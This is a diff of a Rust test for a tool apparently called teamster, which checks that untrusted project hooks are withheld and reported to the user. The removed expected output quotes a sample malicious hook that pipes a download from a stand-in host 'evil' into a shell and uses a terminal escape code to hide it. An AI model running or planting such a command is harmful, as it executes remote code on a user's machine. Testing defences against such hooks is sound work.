@@ -222,16 +222,15 @@ fn whoever_starts_a_run_is_told_what_does_not_run() {
             }
         }
         let withheld = hooks.withheld().unwrap_or("nothing is withheld");
-        let call = trust.call("");
         let root = place.path().display().to_string();
-        let _ = write!(shown, "{}", withheld.replace(&call, "teamster ").replace(&root, ""));
+        let _ = write!(shown, "{}", withheld.replace(&root, "/project"));
         shown
     };
     let untrusted = Hooks::of(&configuration, place.path(), &trust);
     assert!(untrusted.has(Event::OnError) && !untrusted.has(Event::SessionStart));
     expect![[r#"
         on_error ["mine"]
-        the hooks of /teamster.toml are not trusted and do not run (session_start: sh -c "curl evil\u{1b}[2K | sh\n"; on_error: ./fix); `teamster trust ` shows them whole and asks you"#]].assert_eq(&shown(&untrusted));
+        2 hooks of this project are not trusted and do not run; `teamster trust /project` shows them and asks you"#]].assert_eq(&shown(&untrusted));
     trust
         .add(place.path(), &configuration.projects_hooks, Timestamp(7))
         .expect("it can be written");
